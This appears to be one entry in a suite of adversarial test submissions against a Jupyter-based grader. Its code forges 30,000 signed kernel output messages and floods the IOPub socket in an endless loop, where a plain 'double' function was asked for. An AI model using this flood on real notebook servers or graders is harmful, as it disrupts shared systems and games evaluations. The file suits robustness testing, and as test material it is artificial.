# Attack 57: Ever so many tiny messages, prepared beforehand, faster than anybody can read them.
# points: double 0, half [01]
# reads: reached the limit of 3 s
# timeout: 3

# %% double-answer
import itertools
import json


def double(x):
    kernel = get_ipython().kernel
    about = json.dumps(kernel.get_parent("shell")["header"], default=str).encode()
    kinds = {
        "stream": {"name": "stdout", "text": ""},
        "error": {"ename": "E" * 1000, "evalue": "", "traceback": []},
        "comm_open": {"comm_id": "c", "data": {"state": {}}, "target_name": ""},
        "display_data": {"data": {}, "metadata": {}, "transient": {"display_id": "d"}},
        "update_display_data": {"data": {}, "metadata": {}, "transient": {"display_id": "d"}},
        "clear_output": {"wait": True},
    }
    ready = []
    for number, (kind, content) in zip(range(30_000), itertools.cycle(kinds.items())):
        header = {"msg_type": kind, "msg_id": str(number), "date": "2026-01-01T00:00:00"}
        parts = [json.dumps(header).encode(), about, b"{}", json.dumps(content).encode()]
        ready.append([b"k", b"<IDS|MSG>", kernel.session.sign(parts), *parts])
    while True:
        for message in ready:
            kernel.iopub_socket.send_multipart(message)
